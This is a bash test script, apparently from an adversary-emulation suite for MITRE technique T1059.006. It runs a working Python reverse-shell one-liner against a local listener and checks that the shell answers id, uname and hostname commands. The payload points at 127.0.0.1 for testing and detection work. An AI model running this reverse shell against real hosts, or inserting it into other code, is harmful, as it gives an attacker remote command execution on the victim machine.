#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1059.006
# tactic: execution
# what: python3 -c reverse shell: socket to the operator, dup2 onto 0/1/2, pty.spawn(/bin/sh); the operator runs id, uname, exit
. "$AT_LIB"
port=$(at_free_port)
printf 'id\nuname -a\ncat /etc/hostname\nexit\n' >"$AT_TMP/cmds"
at_listen "$port" "$AT_TMP/cmds"
"$PY" -c "import socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',$port));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')" >/dev/null 2>&1
wait "$AT_LISTENER" || true
grep -q uid= "$AT_TMP/cmds.out"
